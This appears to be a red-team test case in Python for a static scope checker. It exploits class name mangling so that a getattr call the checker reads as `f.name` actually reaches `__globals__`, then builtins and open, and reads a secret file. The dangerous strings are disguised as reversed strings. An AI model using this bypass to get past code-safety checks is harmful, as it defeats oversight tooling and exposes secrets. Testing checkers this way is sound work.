# family: red team, round 15 (scopes: nonlocal, name mangling, class bodies, global in blocks, getattr tables)
# Chain: inside a class, the local `__k` is mangled by the compiler to `_Box__k`, so writing `_Box__k = ...`
# rebinds the very same variable; the checker (scopes/bindings) treats `__k` and `_Box__k` as two names, so
# `for __k in ("name",)` looks like the only binding of __k and getattr(f, __k) is judged as f.name.
# At run time the name is "__globals__" -> builtins -> open -> read the secret.
def helper():
    return 1

class Box:
    def grab(self, fn):
        for __k in ("name",):
            _Box__k = "".join(reversed("__slabolg__"))
            return getattr(fn, __k)

g = Box().grab(helper)
b = g["".join(reversed("__snitliub__"))]
print(sorted(g.keys())[:6])
print(getattr(b, "open")("/tmp/r15/work/secret.txt").read())
